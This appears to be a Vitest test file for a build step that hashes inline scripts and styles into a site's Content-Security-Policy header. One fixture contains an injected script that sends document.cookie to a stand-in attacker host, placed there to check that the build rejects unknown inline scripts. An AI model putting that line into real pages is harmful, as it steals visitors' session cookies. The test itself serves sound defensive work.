import { createHash } from 'node:crypto';
import { mkdirSync, mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { completeBuiltCsp, extendCspInHeaders, inlineCode } from './csp.ts';
import { parseCsp } from './host-rules.ts';

const sha = (text: string) => `'sha256-${createHash('sha256').update(text).digest('base64')}'`;

describe('inline code the policy must allow', () => {
  it('finds inline classic and module scripts and styles, byte for byte', () => {
    const html = `<head><script>(function(){ window.x = 1 })();</script><style>astro-island{display:contents}</style>
      <script type="module">import('/a.js')</script></head>`;
    expect(inlineCode(html)).toEqual({
      scripts: ['(function(){ window.x = 1 })();', "import('/a.js')"],
      styles: ['astro-island{display:contents}'],
    });
  });

  it('skips external scripts and data blocks such as JSON-LD, which never run', () => {
    const html = `<script type="module" src="/_astro/x.js"></script><script type="application/ld+json">{"a":1}</script>`;
    expect(inlineCode(html).scripts).toEqual([]);
  });
});

describe('completing a built policy', () => {
  const headers = `/*\n  Content-Security-Policy: default-src 'self'; script-src 'self'; style-src 'self'; connect-src 'self'\n  X-Content-Type-Options: nosniff\n`;

  it('adds sources to the named directives and keeps everything else', () => {
    const out = extendCspInHeaders(headers, {
      'script-src': ["'sha256-abc='"],
      'connect-src': ['https://x.supabase.co'],
    });
    const csp = parseCsp(/Content-Security-Policy: (.*)/.exec(out)?.[1] ?? '');
    expect(csp.get('script-src')).toEqual(["'self'", "'sha256-abc='"]);
    expect(csp.get('connect-src')).toEqual(["'self'", 'https://x.supabase.co']);
    expect(csp.get('style-src')).toEqual(["'self'"]);
    expect(out).toContain('X-Content-Type-Options: nosniff');
  });

  it('fails the build when the policy it should extend is missing', () => {
    expect(() => extendCspInHeaders('/*\n  X-Frame-Options: DENY\n', { 'script-src': [] })).toThrow(
      'no Content-Security-Policy',
    );
    expect(() => extendCspInHeaders(headers, { 'script-src': [], 'worker-src': [] } as never)).toThrow('worker-src');
  });

  function build(pages: Record<string, string>, headersText = headers): string {
    const dir = mkdtempSync(join(tmpdir(), 'csp-'));
    writeFileSync(join(dir, '_headers'), headersText);
    for (const [path, html] of Object.entries(pages)) {
      mkdirSync(join(dir, path, '..'), { recursive: true });
      writeFileSync(join(dir, path), html);
    }
    return dir;
  }
  const policyOf = (dir: string) =>
    parseCsp(/Content-Security-Policy: (.*)/.exec(readFileSync(join(dir, '_headers'), 'utf8'))?.[1] ?? '');

  it("hashes the app's own inline scripts that the pages use, and every page's inline styles", () => {
    const dir = build({
      'index.html': '<script>one()</script>',
      'news/index.html': '<script>two()</script><style>p{}</style>',
    });
    completeBuiltCsp(dir, { connect: ['http://127.0.0.1:54321'], knownScripts: ['one()', 'two()', 'unused()'] });
    const csp = policyOf(dir);
    expect(csp.get('script-src')?.sort()).toEqual(["'self'", sha('one()'), sha('two()')].sort());
    expect(csp.get('style-src')).toEqual(["'self'", sha('p{}')]);
    expect(csp.get('connect-src')).toEqual(["'self'", 'http://127.0.0.1:54321']);
  });

  it('adds picture origins to img-src when asked (the console previews uploads from Storage)', () => {
    const dir = build(
      { 'index.html': '<p>Console</p>' },
      headers.replace("connect-src 'self'", "img-src 'self' data:; connect-src 'self'"),
    );
    completeBuiltCsp(dir, { connect: ['https://x.supabase.co'], images: ['https://x.supabase.co'], knownScripts: [] });
    expect(policyOf(dir).get('img-src')).toEqual(["'self'", 'data:', 'https://x.supabase.co']);
  });

  it('an inline script no component emits (e.g. injected through content) fails the build, naming the page', () => {
    const dir = build({
      'index.html': '<script>one()</script>',
      'news/injected/index.html': `<script>one()</script><p>Story</p><script>fetch('https://evil.example/?c='+document.cookie)</script>`,
    });
    expect(() => completeBuiltCsp(dir, { connect: [], knownScripts: ['one()'] })).toThrow(
      /news\/injected\/index\.html: "fetch\('https:\/\/evil\.example/,
    );
    expect(readFileSync(join(dir, '_headers'), 'utf8')).toBe(headers);
  });

  it('a policy line longer than the host accepts fails the build', () => {
    const scripts = Array.from({ length: 50 }, (_, i) => `script${i}()`);
    const dir = build({ 'index.html': scripts.map((script) => `<script>${script}</script>`).join('') });
    expect(() => completeBuiltCsp(dir, { connect: [], knownScripts: scripts })).toThrow(
      /line 2 \(Content-Security-Policy\) is \d{4} characters; the host allows 2000/,
    );
  });
});
